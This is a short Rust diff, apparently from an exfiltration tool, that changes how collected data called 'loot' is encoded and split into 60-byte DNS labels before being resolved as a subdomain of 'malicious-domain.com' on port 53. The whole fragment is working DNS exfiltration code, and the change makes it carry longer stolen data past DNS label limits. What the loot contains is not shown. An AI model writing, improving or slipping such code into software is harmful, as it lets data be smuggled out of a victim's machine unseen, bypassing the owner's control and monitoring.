@@ -22,7 +22,10 @@ fn main() {
             loot.push(';');
         }
     }
-    let label = encode(loot.as_bytes());
-    let host = format!("{}.malicious-domain.com:53", label);
+    // DNS labels hold at most 63 bytes: cut the encoded loot into labels.
+    let encoded = encode(loot.as_bytes());
+    let labels: Vec<&str> = encoded.as_bytes().chunks(60)
+        .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
+    let host = format!("{}.malicious-domain.com:53", labels.join("."));
     let _ = host.to_socket_addrs();
 }
